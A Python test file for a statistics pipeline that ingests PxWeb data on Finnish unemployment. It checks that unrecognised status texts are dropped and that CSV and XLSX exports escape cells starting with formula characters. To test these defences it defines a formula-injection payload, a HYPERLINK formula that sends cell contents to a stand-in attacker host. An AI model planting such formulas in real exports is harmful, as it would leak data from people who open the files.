"""Issue 18: status texts from upstream are PxWeb's missing-figure symbols or nothing; exports never start a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from data_sources.domain.catalog import load_catalog
from data_sources.pxweb.jsonstat import parse_jsonstat2
from data_sources.service.commands import refresh as refresh_main
from data_sources.snapshots.dataset import load_dataset
from data_sources.snapshots.store import SnapshotStore
from report.downloads import Number, TableDownload, frame_csv, to_csv, to_xlsx
from tests.fake_pxweb import months
from tests.test_faults import FAST

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Lisätietoja")'


def test_a_status_text_that_is_no_pxweb_symbol_is_dropped_and_counted(fake, cache_dir, capsys):
    fake.inject("status", path="12r5", times=50, arg=f"KU286:{HOSTILE}")
    assert refresh_main([*FAST, "--base-url", fake.base_url, "--cache-dir", str(cache_dir)]) == 0
    cells = len(months("2009M01", "2026M06")) * len(load_catalog().content_codes("tyonv_12r5"))
    (line,) = [row for row in capsys.readouterr().out.splitlines() if "tyonv/12r5.px" in row]
    assert f"; {cells} status texts that are not PxWeb symbols dropped, the figures kept" in line
    frame = load_dataset(cache_dir).frame
    kouvola = frame[(frame["area_code"] == "KU286") & (frame["series"] == "unemployed")]
    assert kouvola["status"].isna().all()
    assert kouvola["value"].iloc[-1] == fake.cell("tyonv/12r5.px", "KU286", "2026M06", "TYOTTOMATLOPUSSA")[0]


def test_only_a_missing_figure_keeps_its_symbol():
    doc = {
        "class": "dataset",
        "id": ["a"],
        "size": [5],
        "dimension": {"a": {"category": {"index": ["1", "2", "3", "4", "5"]}}},
        "value": [None, None, 7, None, 9],
        "status": {"0": "..", "1": " - ", "2": "...", "3": "=1+1", "4": "x"},
    }
    frame = parse_jsonstat2(doc)
    assert frame["status"].tolist() == ["..", "-", pd.NA, pd.NA, pd.NA]
    assert frame["value"].tolist()[2::2] == [7, 9]
    assert frame.attrs["dropped_status"] == 3  # "..." on a figure that exists, "=1+1" and "x"


ESCAPED = ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", "a=b"]


def test_exports_never_start_a_cell_with_a_formula_character():
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "a=b"]
    table = TableDownload(
        headers=("=h", "n"),
        rows=tuple((text, Number(-3.0)) for text in texts),
        sheet="s",
        notes_sheet="n",
        notes=(("=note", "-1"),),
    )
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["'=h", "n"]
    assert [r[0] for r in rows[1:9]] == ESCAPED
    assert [r[1] for r in rows[1:9]] == ["-3"] * 8, "a number stays a number"
    assert rows[-1] == ["'=note", "'-1"]
    book = load_workbook(io.BytesIO(to_xlsx(table)))
    data, notes = book.worksheets
    assert [c.value for c in data["A"]] == ["'=h", *(e.replace("\r", "\n") for e in ESCAPED)]  # a CR is a line break
    assert [c.value for c in data["B"]][1:] == [-3] * 8
    assert [c.value for c in notes[1]] == ["'=note", "'-1"]
    frame = pd.DataFrame({"status": pd.array([*texts, None], dtype="string"), "value": [-1.5] * 9})
    lines = list(csv.reader(io.StringIO(frame_csv(frame).decode("utf-8"), newline="")))
    assert [r[0] for r in lines[1:]] == [*ESCAPED, ""]
    assert {r[1] for r in lines[1:]} == {"-1.5"}


def test_a_status_text_stored_before_the_check_hides_no_figure(fake, cache_dir):
    assert refresh_main([*FAST, "--base-url", fake.base_url, "--cache-dir", str(cache_dir)]) == 0
    store = SnapshotStore(cache_dir)
    stored = store.current("tyonv_12r5", "tyonv/12r5.px")
    hostile = stored.frame.assign(status=stored.frame["status"].fillna(HOSTILE))  # the suppressed keep "..."
    store.write_release(hostile, stored.provenance)
    frame = load_dataset(cache_dir).frame
    monthly = frame[frame["table"] == "tyonv/12r5.px"]
    assert set(monthly["status"].dropna()) == {"..."}
    assert monthly["status"].notna().sum() == stored.frame["status"].notna().sum()
